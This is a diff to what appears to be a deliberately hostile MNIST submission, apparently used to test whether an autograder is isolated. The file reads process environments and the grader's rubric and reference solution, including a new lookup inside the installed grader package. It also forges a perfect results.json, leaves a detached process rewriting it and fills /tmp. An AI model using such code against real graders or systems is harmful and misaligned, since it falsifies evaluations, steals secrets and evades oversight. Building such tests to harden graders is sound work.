@@ -2,8 +2,9 @@
 
 A working MNIST classifier whose first construction:
 1. reads its environment and every `/proc/*/environ` it can;
-2. tries to read the autograder's source, rubric, reference solution, the grader's state and
-   caches, and any labelled digits it can find, and lists what it can see under /autograder;
+2. tries to read the autograder's source, rubric, reference solution (also the copy inside
+   the installed grader package), the grader's state and caches, and any labelled digits it
+   can find, and lists what it can see under /autograder;
 3. tries to write a perfect `/autograder/results/results.json`;
 4. leaves a detached process behind that keeps rewriting that file for two minutes;
 5. prints all it found (one `HOSTILE-FINDINGS` JSON line), then fills /tmp until it fails.
@@ -13,6 +14,7 @@ cleaned, the run is stopped at its disk budget, and results.json is the grader's
 """
 
 import glob
+import importlib.util
 import json
 import os
 import subprocess
@@ -56,6 +58,15 @@ def attempt_read(path: str) -> dict:
             return {"read": handle.read(200).decode(errors="replace")}
     except OSError as error:
         return {"errno": error.errno}
+
+
+def installed_grader() -> list[str]:
+    """The reference and rubric a non-editable install keeps inside the grader's package."""
+    spec = importlib.util.find_spec("grader")
+    if spec is None or not spec.submodule_search_locations:
+        return []
+    shipped = os.path.join(spec.submodule_search_locations[0], "_shipped")
+    return [shipped, os.path.join(shipped, "rubrics", "m14.yaml"), os.path.join(shipped, "reference", "m14", "model.py")]
 
 
 def environments() -> dict:
@@ -114,7 +125,7 @@ class MyAwesomeModel(pl.LightningModule):
             MyAwesomeModel.attempted = True
             findings = {
                 "environment": environments(),
-                "secrets": {path: attempt_read(path) for path in SECRETS},
+                "secrets": {path: attempt_read(path) for path in SECRETS + installed_grader()},
                 "labelled_digits": labelled_digits(),
                 "visible": visible_under_autograder(),
                 "results": forge_results(),
